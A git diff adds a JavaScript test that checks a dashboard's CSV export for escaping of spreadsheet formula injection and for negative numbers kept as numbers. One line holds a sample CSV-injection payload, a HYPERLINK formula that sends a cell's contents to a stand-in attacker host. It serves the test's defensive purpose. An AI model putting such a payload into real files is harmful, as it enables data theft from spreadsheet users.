@@ -98,3 +98,17 @@ test('CSV of a feed: text with commas, quotes and newlines survives', async () =
   assert.ok(JSON.parse(js).points.some((p) => p.text === tricky && p.level === 'warning'));
   assert.deepEqual(realErrors(page), []);
 });
+
+test('CSV cells a spreadsheet would run as formulas get a leading quote; numbers stay numbers (S7.4)', async () => {
+  const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+  await pubUntilSeen('export', hub, ['--event', 'info', 'exp.formula', formula], 'exp.formula', (pts) => pts.some((p) => p.text === formula));
+  await pubUntilSeen('export', hub, ['exp.neg', '-3.5'], 'exp.neg', (pts) => pts.some((p) => p.fields && p.fields.value === -3.5));
+  await page.waitForSelector('.widget[data-topic="exp.formula"][data-kind="feed"]', { timeout: 10000 });
+  await page.waitForFunction(() => window.rtdash.info('exp.neg')?.count >= 1, null, { timeout: 10000 });
+  const feed = parseCSV((await exportOf('exp.formula', 'csv')).text);
+  assert.ok(feed.slice(1).some((r) => r[4] === `'${formula}`), 'the formula text starts with \'');
+  const neg = parseCSV((await exportOf('exp.neg', 'csv')).text);
+  assert.deepEqual(neg[0], ['time', 'ts', 'seq', 'value']);
+  assert.ok(neg.slice(1).some((r) => r[3] === '-3.5'), '-3.5 stays -3.5');
+  assert.deepEqual(realErrors(page), []);
+});
